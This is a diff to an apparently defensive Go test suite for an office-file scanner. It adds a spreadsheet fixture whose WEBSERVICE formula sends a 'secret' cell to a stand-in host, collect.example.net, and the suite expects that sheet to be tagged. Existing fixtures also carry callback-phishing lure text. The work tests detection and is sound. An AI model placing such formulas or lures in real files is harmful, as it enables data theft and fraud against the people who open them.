@@ -76,6 +76,13 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
 		return row(`<table:table-cell office:value-type="string"><text:p>` + v + `</text:p></table:table-cell>`)
 	}
 	callbackSheet := in("callback-sheet.fods", calc(str("Microsoft 365 Family")+str("Renewal charged: $299.99")+str("Not authorized? To cancel call 1-808-555-0199")))
+	// A sheet sending a cell to a web service, and one reading the ECB's
+	// published rates.
+	webCell := func(f string) string {
+		return row(`<table:table-cell table:formula="of:=` + f + `" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>secret</text:p></table:table-cell>`)
+	}
+	webSheet := in("web-sheet.fods", calc(webCell(`COM.MICROSOFT.WEBSERVICE(&quot;http://collect.example.net/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))`)))
+	ratesSheet := in("rates-sheet.fods", calc(webCell(`COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE(&quot;https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml&quot;);&quot;//Cube&quot;)`)))
 	// The same as slides, saved as .ppt.
 	deck := func(name string, boxes ...string) string {
 		var b strings.Builder
@@ -110,6 +117,8 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
 		{supplierText, []string{"docx", "doc", "rtf", "odt"}, "", policy.Accept},
 		{callbackSheet, []string{"xlsx", "xls", "ods"}, "callback-phishing", policy.Quarantine},
 		{callbackDeck, []string{"ppt"}, "callback-phishing", policy.Quarantine},
+		{webSheet, []string{"xlsx", "xls", "ods"}, "formula-web-fetch", policy.Tag},
+		{ratesSheet, []string{"xlsx", "xls", "ods"}, "", policy.Accept},
 		{supplierDeck, []string{"ppt"}, "", policy.Accept},
 	}
 	var jobs []soffice.CryptJob
